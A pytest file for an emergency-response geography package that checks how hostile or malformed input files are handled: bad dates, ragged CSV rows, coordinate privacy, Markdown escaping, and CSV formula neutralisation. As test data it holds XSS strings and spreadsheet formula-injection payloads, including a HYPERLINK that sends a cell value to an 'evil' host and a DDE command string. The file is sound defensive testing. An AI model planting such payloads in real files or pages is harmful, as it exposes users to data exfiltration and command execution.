"""Hostile and careless input files (issue 11): each fixture in tests/fixtures/hostile/ is written by hand,
and each test asserts the exact ledger reason, the line number, the count, or the text kept as written."""

from __future__ import annotations

from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from geo_response import bases, config, geography
from geo_response.compliance.report import md_escape, render_markdown
from geo_response.errors import InputFileError, ScenarioError
from geo_response.incidents import load as incidents
from geo_response.inputs import read_csv_table
from geo_response.planning.scenarios import read_scenario

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
TINY = Path(__file__).parent / "fixtures" / "incidents" / "tiny_lsoas.geojson"


@pytest.fixture(scope="module")
def boundary():
    return shapely.union_all(gpd.read_file(TINY).geometry.values)


@pytest.fixture(scope="module")
def policy():
    return config.load_profile().policy("essex-2022")


def wc_l(path: Path) -> int:
    """Newline count, as ``wc -l`` prints it."""
    return path.read_bytes().count(b"\n")


def reasons(result) -> dict[int, str]:
    led = result.ledger[result.ledger["status"] == "rejected"]
    return dict(zip(led["row_number"].astype(int), led["reason"], strict=True))


# ------------------------------------------------------------------------------------------------
# Issue line 4: one bad date must not kill the run
# ------------------------------------------------------------------------------------------------
def test_out_of_range_dates_are_ledgered_not_raised(boundary, policy):
    r = incidents.load_incidents(HOSTILE / "bad_dates.csv", boundary, policy)
    assert reasons(r) == {
        3: "time_out_of_range",
        4: "time_out_of_range",
        5: "time_out_of_range",
        6: "unparseable_time",
        7: "implausible_response_time",
        8: "unparseable_response_time",
    }
    assert r.incidents["incident_id"].tolist() == ["D1"]
    s = r.summary
    assert s["input_rows"] == wc_l(HOSTILE / "bad_dates.csv") - 1 == 7
    assert (s["accepted"], s["rejected"]) == (1, 6)
    detail = r.ledger.set_index("row_number")["detail"]
    assert detail[3] == "occurred_at=9999-12-31T23:59:59 is not between 1900 and 2100"
    assert "max_response_minutes" in detail[7]


def test_arrived_at_out_of_range_or_implausible(boundary):
    r = incidents.load_incidents(HOSTILE / "bad_arrivals.csv", boundary)
    assert reasons(r) == {3: "time_out_of_range", 4: "implausible_response_time", 5: "time_out_of_range"}
    assert r.incidents["response_minutes"].tolist() == [12.5]


def test_plausibility_bound_comes_from_the_profile(boundary):
    assert config.load_profile().response_model.max_response_minutes == 1440
    r = incidents.load_incidents(HOSTILE / "bad_arrivals.csv", boundary, max_response_minutes=20_000)
    assert reasons(r) == {3: "time_out_of_range", 5: "time_out_of_range"}


# ------------------------------------------------------------------------------------------------
# Issue lines 5 and 8: ragged rows, blank lines, line numbers and an independent count
# ------------------------------------------------------------------------------------------------
def test_ragged_file_is_read_and_every_record_accounted(boundary, policy):
    path = HOSTILE / "ragged.csv"
    r = incidents.load_incidents(path, boundary, policy)
    # row_number = file line (header = 1): blank lines 3, 6, 7 are counted; G5 spans lines 9-10
    assert reasons(r) == {4: "extra_fields", 8: "missing_coordinates", 11: "unparseable_response_time"}
    assert dict(zip(r.incidents["incident_id"], r.incidents["row_number"], strict=True)) == {
        "G1": 2,
        "G3": 5,
        "G5\nsecond line": 9,
        "G7": 12,
    }
    assert r.ledger.set_index("row_number").loc[4, "detail"] == (
        "7 fields, the header has 6: check for an unquoted comma"
    )
    # wc -l is 12: minus the header, the 3 blank lines and the one continuation line = 7 records
    s = r.summary
    assert wc_l(path) == 12 and s["input_rows"] == 12 - 1 - 3 - 1 == 7
    assert (s["accepted"], s["rejected"]) == (4, 3)
    assert s["files"][0]["blank_lines"] == 3 and s["files"][0]["lines_read"] == 12


def test_input_count_is_the_readers_not_the_frames(monkeypatch, boundary):
    """The count comes from the reader, so a loader that lost a row would break the equation."""
    real = incidents.read_source

    def losing_a_row(path):
        frame, lines, extra, counts = real(path)
        return frame.iloc[1:].reset_index(drop=True), lines[1:], extra.iloc[1:].reset_index(drop=True), counts

    monkeypatch.setattr(incidents, "read_source", losing_a_row)
    s = incidents.load_incidents(HOSTILE / "ragged.csv", boundary).summary
    assert s["input_rows"] == 7 and s["accepted"] + s["rejected"] == 6


def test_csv_reader_keeps_text_and_flags_extras():
    t = read_csv_table(HOSTILE / "ragged.csv")
    assert t.lines.tolist() == [2, 4, 5, 8, 9, 11, 12]
    assert t.extra.tolist() == [0, 1, 0, 0, 0, 0, 0]  # G3's trailing comma is not an extra field
    assert t.frame.loc[3, "longitude"] == ""  # short row padded
    assert t.frame.loc[5, "response_minutes"] == "10,5"


def test_empty_and_unreadable_files(tmp_path):
    (tmp_path / "empty.csv").write_text("")
    with pytest.raises(InputFileError, match="is empty"):
        incidents.load_incidents(tmp_path / "empty.csv")
    (tmp_path / "latin1.csv").write_bytes("latitude,longitude,name\n51.7,0.4,caf\xe9\n".encode("latin-1"))
    with pytest.raises(InputFileError, match="not UTF-8"):
        incidents.load_incidents(tmp_path / "latin1.csv")


# ------------------------------------------------------------------------------------------------
# Issue line 9: no coordinates in the ledger unless asked, and then a 1 km square only
# ------------------------------------------------------------------------------------------------
def test_ledger_repeats_no_coordinates(boundary):
    r = incidents.load_incidents(HOSTILE / "privacy.csv", boundary)
    assert reasons(r) == {3: "outside_force_area", 4: "unparseable_coordinates"}
    text = " ".join(r.ledger["detail"])
    for leak in ("51.836", "0.469", "51.7503", "0.45"):
        assert leak not in text
    assert r.ledger.set_index("row_number").loc[3, "detail"] == "outside the force area"


def test_show_points_gives_a_1km_grid_square_only(boundary):
    r = incidents.load_incidents(HOSTILE / "privacy.csv", boundary, show_points=True)
    detail = r.ledger.set_index("row_number")["detail"]
    assert detail[3] == "outside the force area, in 1 km square TL 70 18"
    assert "51.7503" not in detail[4]


# ------------------------------------------------------------------------------------------------
# Issue line 7: pass-through columns are kept as written
# ------------------------------------------------------------------------------------------------
def test_points_table_keeps_text_as_written():
    df = geography.read_points_table(HOSTILE / "points_passthrough.csv")
    assert df["ref"].tolist() == ["007", "0042", "NaN"]
    assert df["phone"].tolist() == ["+441234", "=1+1", "-1+cmd"]
    assert df["note"].tolist() == ["NA", "null", "NaN"]
    assert df["blank"].tolist() == ["", "", ""]
    assert df.attrs["lines"].tolist() == [2, 3, 4] and df.attrs["extra_fields"] == {}
    points, bad = geography.table_points(df)
    assert bad.tolist() == [False, False, True]


def test_points_written_back_are_unchanged_but_neutralised(tmp_path):
    from geo_response.outputs import write_csv

    df = geography.read_points_table(HOSTILE / "points_passthrough.csv")
    write_csv(df, tmp_path / "out.csv")
    lines = (tmp_path / "out.csv").read_text().splitlines()
    assert lines[1] == "007,'+441234,NA,,51.75,0.45"
    assert lines[2] == "0042,'=1+1,null,,51.76,0.46"
    assert lines[3] == "NaN,'-1+cmd,NaN,,'-0.5x,0.47"


# ------------------------------------------------------------------------------------------------
# Issue line 5: bases and scenarios with extra fields or trailing commas
# ------------------------------------------------------------------------------------------------
def test_bases_keep_odd_names_and_drop_ragged_rows():
    gdf, issues = bases.read_bases_csv(HOSTILE / "bases_ragged.csv")
    assert gdf["name"].tolist() == ["NaN", "NA", "Trailing"]  # names kept; the trailing comma is harmless
    assert gdf["units"].tolist() == [2, 1, 1]  # an empty units cell is the default
    assert issues == [
        {"row": 4, "name": "Extra", "issue": "5 fields, the header has 4: check for an unquoted comma: dropped"}
    ]


def test_scenario_extra_field_is_refused_by_line_not_shifted():
    with pytest.raises(ScenarioError, match=r"line 2 has 5 fields but the header has 4"):
        read_scenario(HOSTILE / "scenario_extra.csv")
    table = read_scenario(HOSTILE / "scenario_trailing.csv")
    assert table[["action", "name", "latitude", "longitude"]].values.tolist() == [["add", "Dunmow", "51.872", "0.365"]]


# ------------------------------------------------------------------------------------------------
# Issue line 9: Markdown links and images do not render
# ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("hostile", "escaped"),
    [
        ("[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert(1))"),
        ("![](http://tracker/p.gif)", "!\\[\\]\\(http://tracker/p.gif)"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("`code` *bold* _it_ pct_met", "\\`code\\` \\*bold\\* \\_it\\_ pct_met"),
        ("a | b", "a \\| b"),
    ],
)
def test_markdown_escaping_defuses_links_images_and_html(hostile, escaped):
    assert md_escape(hostile) == escaped
    page = render_markdown([("h1", hostile), ("p", hostile), ("table", hostile, pd.DataFrame({hostile: [hostile]}))])
    assert "](" not in page and "![" not in page and "<img" not in page


# ------------------------------------------------------------------------------------------------
# Issue line 2: formula cells from an incident file are neutralised in incidents.csv and ledger.csv
# ------------------------------------------------------------------------------------------------
def test_incident_and_ledger_csvs_neutralise_formulas(tmp_path, boundary):
    import csv

    from geo_response.compliance import report

    src = HOSTILE / "formulas.csv"
    before = src.read_bytes()
    r = incidents.load_incidents(src, boundary)
    report.write_incidents(r.incidents, tmp_path / "incidents.csv")
    ledger = pd.DataFrame(
        {
            "file": [str(src)],
            "row_number": [2],
            "incident_id": ["=1+1"],
            "status": ["rejected"],
            "reason": ["unknown_grade"],
            "detail": ["not a grade: =cmd"],
        }
    )
    report.write_ledger(ledger, tmp_path / "ledger.csv")
    report.write_long(pd.DataFrame({"category": ["@SUM(A1)"], "met": [-1]}), tmp_path / "long.csv")
    with open(tmp_path / "incidents.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [row["incident_id"] for row in rows] == ['\'=HYPERLINK("http://evil/?x="&A1,"click")', "'+441234", "-0.5"]
    assert [row["category"] for row in rows] == ["'=1+1", "'-1+cmd|' /C calc'!A0", "ok"]
    with open(tmp_path / "ledger.csv", newline="") as f:
        assert list(csv.reader(f))[1][1:] == ["2", "'=1+1", "rejected", "unknown_grade", "not a grade: =cmd"]
    with open(tmp_path / "long.csv", newline="") as f:
        assert list(csv.reader(f)) == [["category", "met"], ["'@SUM(A1)", "-1"]]
    assert src.read_bytes() == before
